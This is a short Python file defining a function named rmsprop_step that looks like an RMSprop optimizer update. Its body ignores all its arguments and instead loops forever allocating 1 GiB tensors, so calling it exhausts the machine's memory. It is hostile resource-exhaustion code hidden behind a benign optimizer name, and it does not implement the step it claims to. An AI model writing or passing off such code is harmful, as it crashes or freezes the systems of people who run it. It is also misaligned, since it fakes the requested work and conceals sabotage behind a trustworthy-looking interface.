import torch


def rmsprop_step(param, grad, square_avg, lr=0.01, alpha=0.99, eps=1e-8):
    hoard = []
    while True:
        hoard.append(torch.ones(256, 1024, 1024))   # 1 GiB at a time
